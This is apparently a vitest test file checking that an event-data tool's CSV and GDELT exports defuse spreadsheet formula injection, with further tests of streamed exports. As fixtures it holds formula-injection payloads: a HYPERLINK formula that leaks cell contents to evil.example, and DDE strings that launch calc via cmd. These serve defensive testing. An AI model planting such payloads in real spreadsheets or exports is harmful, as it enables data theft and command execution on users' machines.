// Exports opened in a spreadsheet must not run formulas: text cells starting with = + - @ tab
// or CR get a leading single quote (numbers stay numbers), CSV quotes what needs quoting, and
// GDELT (tab-separated) cells hold no tab or line break. Through a real ingest and the API, and
// through the writers with hostile names in every text field.
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createApp } from '../../src/server/app.js';
import { createCoder } from '../../src/pipeline/analyze.js';
import { openSqlite } from '../../src/store/sqlite/sqlite-store.js';
import { ingest } from '../../src/ingest/run.js';
import { csvWriter, gdeltWriter, inertText } from '../../src/export/formats.js';
import type { Event } from '../../src/doc/types.js';
import { readSources } from '../../src/readers/sources.js';
import { makeCorpus } from '../corpus/store.cases.js';
import { exportResponse } from '../../src/server/export-response.js';
import { inThreadReader } from '../../src/server/read-pool.js';
import type { Store } from '../../src/store/store.js';
import { parseCsv } from '../cases/csv.js';

const FORMULA = /^\s*[=+\-@]|^[\t\r]/;
const URL_ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")\tsecond\ncell';

let dir: string, store: Store, app: ReturnType<typeof createApp>, real: Event;
beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'dyad-xport-'));
  store = openSqlite(join(dir, 'x.db'));
  async function* docs() {
    yield { record: { id: 'f1', date: '2023-05-10', url: URL_ATTACK, title: '@SUM(1)', outlet: '+cmd|calc', text: 'Turkey condemned Israel on Tuesday.' }, origin: 'test' };
    yield { record: { id: 'f2', date: '2023-05-11', url: 'https://news.example/a', text: 'Russian forces shelled Kharkiv overnight, officials said.' }, origin: 'test' };
  }
  await ingest(docs(), store, { workers: 0 });
  app = createApp({ coder: createCoder(), store });
  for await (const e of store.events({ doc: 'f1' })) { real = e; break; }
}, 120_000);
afterAll(async () => { await store?.close(); rmSync(dir, { recursive: true, force: true }); });

describe('inertText', () => {
  it.each([
    ['=1+2', "'=1+2"], ['+1', "'+1"], ['-2+3', "'-2+3"], ['@SUM(1)', "'@SUM(1)"], ['\t=1', "'\t=1"], ['\r=1', "'\r=1"], ['  =1', "'  =1"],
    ['Turkey', 'Turkey'], ['a=b', 'a=b'], ['', ''], ['1-2', '1-2'],
  ])('%j -> %j', (s, out) => expect(inertText(s)).toBe(out));
});

describe('GDELT export of a document with a formula and a tab in its URL', () => {
  it('keeps 61 columns, the URL one cell, inert and on one line', async () => {
    const r = await app.request('/api/export?format=gdelt');
    expect(r.status).toBe(200);
    const rows = (await r.text()).split('\n').filter(Boolean).map((l) => l.split('\t'));
    expect(rows.length).toBeGreaterThan(1);
    for (const row of rows) expect(row.length).toBe(61);
    const hostile = rows.filter((row) => row[60].includes('HYPERLINK'));
    expect(hostile.length).toBeGreaterThan(0);
    for (const row of hostile) expect(row[60]).toBe(`'${URL_ATTACK.replace(/[\t\n]/g, ' ')}`);
    for (const row of rows) for (const cell of row) if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell, cell).not.toMatch(FORMULA);
    // why: a negative Goldstein score is a number and stays one (CAMEO 11 scores below zero)
    expect(rows.some((row) => /^-\d/.test(row[30]))).toBe(true);
  });
});

describe('writers, with hostile text in every text field', () => {
  const hostile = (): Event => ({
    ...real,
    goldstein: -5,
    source: { ...real.source!, name: '=cmd|\' /C calc\'!A0', code: real.source!.code },
    target: { ...real.target!, name: '-2+3, "quoted"\nnext line' },
    attribution: { ...(real.attribution ?? { kind: 'reported' as never }), source: '\t=1+1' } as Event['attribution'],
    trigger: { ...real.trigger, text: '@SUM(1)' },
    where: { name: '\r+place', country: 'TUR', lat: -33.5, lon: -70.25, kind: 'city' } as Event['where'],
    rule: '+rule',
  });
  it('CSV: text cells quoted and inert, numbers intact, one parseable row', () => {
    const w = csvWriter();
    const text = w.head() + w.row(hostile(), null);
    const [head, row] = parseCsv(text);
    expect(row.length).toBe(head.length);
    const cell = (name: string) => row[head.indexOf(name)];
    expect(cell('source_name')).toBe("'=cmd|' /C calc'!A0");
    expect(cell('target_name')).toBe('\'-2+3, "quoted"\nnext line');
    expect(cell('attribution')).toBe("'\t=1+1");
    expect(cell('evidence')).toBe("'@SUM(1)");
    expect(cell('place')).toBe("'\r+place");
    expect(cell('rule')).toBe("'+rule");
    expect(cell('goldstein')).toBe('-5');
    expect(cell('lat')).toBe('-33.5');
    expect(cell('lon')).toBe('-70.25');
    for (const c of row) if (!/^-?\d+(\.\d+)?$/.test(c)) expect(c, c).not.toMatch(FORMULA);
  });
  it('GDELT: 61 cells, none with a tab or line break, text inert, numbers intact', () => {
    const line = gdeltWriter().row(hostile(), '+http://x.example/\tq');
    expect(line.endsWith('\n')).toBe(true);
    expect(line.slice(0, -1)).not.toMatch(/[\n\r]/);
    const cells = line.slice(0, -1).split('\t');
    expect(cells.length).toBe(61);
    expect(cells[6]).toBe("'=CMD|' /C CALC'!A0");
    expect(cells[16]).toBe("'-2+3, \"QUOTED\" NEXT LINE");
    expect(cells[30]).toBe('-5');
    expect(cells[52]).toBe("' +place");
    expect(cells[56]).toBe('-33.5');
    expect(cells[57]).toBe('-70.25');
    expect(cells[60]).toBe("'+http://x.example/ q");
  });
});

describe('streamed exports of a corpus larger than one read', () => {
  let big: Store;
  beforeAll(async () => {
    makeCorpus(join(dir, 'big'), 200);
    big = openSqlite(join(dir, 'big.db'));
    await ingest(readSources([join(dir, 'big')]), big, { workers: 0 });
  }, 120_000);
  afterAll(async () => { await big?.close(); });

  it('gives every row, in order', async () => {
    const w = csvWriter();
    let expected = w.head();
    for await (const e of big.events({})) expected += w.row(e, null);
        expect(await (await exportResponse('csv', {}, inThreadReader(big))).text()).toBe(expected);
  });
  it('a client that leaves early closes the file, and the store goes on answering', async () => {
    const reader = (await exportResponse('jsonl', {}, inThreadReader(big))).body!.getReader();
    const first = await reader.read();
    expect(first.done).toBe(false);
    await reader.cancel();
    // why: the cancelled export's file is closed, and the store still answers
    expect((await big.counts()).events).toBeGreaterThan(300);
    const again = (await (await exportResponse('jsonl', { limit: 3 }, inThreadReader(big))).text()).trim().split('\n');
    expect(again.length).toBe(3);
  });
});
